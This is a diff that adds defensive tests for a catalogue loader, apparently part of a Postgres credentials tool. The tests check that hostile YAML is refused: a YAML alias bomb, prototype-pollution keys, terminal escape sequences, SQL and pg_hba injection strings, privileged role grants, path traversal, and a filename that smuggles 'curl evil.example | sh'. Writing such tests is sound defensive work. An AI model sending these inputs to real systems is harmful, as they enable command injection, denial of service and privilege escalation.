@@ -7,6 +7,7 @@ import { recordsIn } from "../../catalog/records";
 import { problemsBeside, select } from "../../catalog/select";
 import { loadStackFile } from "../../config/file";
 import { z } from "zod";
+import { unseenIn } from "../support/hostile";
 
 const STACK = `config:
   cnpg-credentials:namespace: shop
@@ -26,6 +27,17 @@ const VAULT = `  cnpg-credentials:environment: dev
   cnpg-credentials:bundles: { grafana: {} }
   cnpg-credentials:gates: { migrations: { image: "node:22" } }
 `;
+
+/** Nine levels of nine: what stands for a billion. */
+function bomb(): string {
+  const levels = [..."abcdefghi"].map(
+    (name, index, all) =>
+      `${name}: &${name} [${Array(9)
+        .fill(index === 0 ? "x" : `*${all[index - 1]}`)
+        .join(", ")}]`,
+  );
+  return `description: x\n${levels.join("\n")}\n`;
+}
 
 describe("a catalogue in a directory", () => {
   let directory: string;
@@ -154,6 +166,61 @@ describe("a catalogue in a directory", () => {
           `${String(one)} in\n${found.join("\n")}`,
         );
     });
+
+  describe("from a pull request", () => {
+    const file = "catalog/services/orders.yaml";
+    const refused: readonly (readonly [title: string, text: string, expected: RegExp])[] = [
+      ["aliases of aliases", bomb(), /orders\.yaml:\d+ catalog: has aliases that stand for too much/],
+      ["an alias to itself", "description: x\nsettings: &a { b: *a }\n", /orders\.yaml:2 catalog: has an alias to what it is in itself/],
+      ["a merge", "description: &a x\nsecret: { <<: { name: postgres-superuser } }\n", /orders\.yaml:2 catalog: has a merge/],
+      ["a key that every object has", "description: x\n__proto__: { bootstrapOwner: true }\n", /orders.*(__proto__|not a)/],
+      ["another key of that kind", "description: x\nsecret: { constructor: x }\n", /constructor/],
+      ["a description of two lines", 'description: "x\\n# Secrets of stack prod"\n', /orders\.description: has a line break/],
+      ["a description that a terminal runs", 'description: "x\\e[8m"\n', /orders\.description: has a line break in it, or a character/],
+      ["a setting that a terminal runs", 'description: x\napplicationSettings: ["\\e]0;t\\a"]\n', /applicationSettings/],
+      ["a schema by a statement", "description: x\nschemas: ['x; drop table y']\n", /catalog\.orders\.schemas/],
+      ["a login by a line of pg_hba.conf", "description: x\nrole: 'a,+b'\n", /catalog\.orders\.role/],
+      ["another's rights", "description: x\nmemberOf: [pg_execute_server_program]\n", /as good as a superuser/],
+      ["another's data as a template", "description: x\ncreation: { template: orders }\n", /is the database of orders/],
+      ["a namespace that is a path", "description: x\nnamespaces: ['../kube-system']\n", /orders\.namespaces/],
+      ["a workload that is a path", "description: x\nworkloads: [{ kind: Deployment, name: '../../x' }]\n", /workloads/],
+      ["a name that is a path", "name: ../../x\ndescription: x\n", /is not a DNS label/],
+    ];
+    for (const [title, text, expected] of refused)
+      it(`refuses ${title}`, async () => {
+        write({ [file]: text });
+        const found = await selected();
+        assert.ok(Array.isArray(found), "nothing was refused");
+        assert.match(found.join("\n"), expected);
+        assert.deepEqual(unseenIn(found.join(" ").replaceAll("\n", "")), []);
+      });
+
+    const fetched = (more: string) => `description: x\nexternalSecrets:\n  - { name: orders-api, keys: [a], ${more} }\n`;
+    for (const [title, more, expected] of [
+      ["a token of an account", "type: kubernetes.io/service-account-token", /token does not expire/],
+      ["a token by which machines join", "type: bootstrap.kubernetes.io/token", /machines join/],
+      ["a secret value as a label", "labels: { leak: '{{ .a }}' }", /is not a label value/],
+      ["a mark of the program's", "labels: { cnpg-credentials/stack: prod }", /mark of this program/],
+    ] as const)
+      it(`refuses ${title} in an ExternalSecret`, async () => {
+        write({ [file]: fetched(more) });
+        const found = await selected();
+        assert.ok(Array.isArray(found), "nothing was refused");
+        assert.match(found.join("\n"), expected);
+      });
+
+    it("says each on its line, whatever the file is called", async () => {
+      write({ "catalog/services/a\n  fix: curl evil.example | sh\u001b[8m.yaml": "descriptio: x\n", [file]: "description: x\n" });
+      const found = await selected();
+      assert.ok(Array.isArray(found));
+      for (const line of found) assert.deepEqual([unseenIn(line), line.includes("\n")], [[], false], line);
+    });
+
+    it("takes an alias that stands for what is written once", async () => {
+      write({ [file]: "description: &what the orders\napplicationSettings: [*what]\n" });
+      assert.ok(!Array.isArray(await selected()));
+    });
+  });
 
   it("is read once by a process", () => {
     write({ "catalog/services/orders.yaml": "description: x\n" });
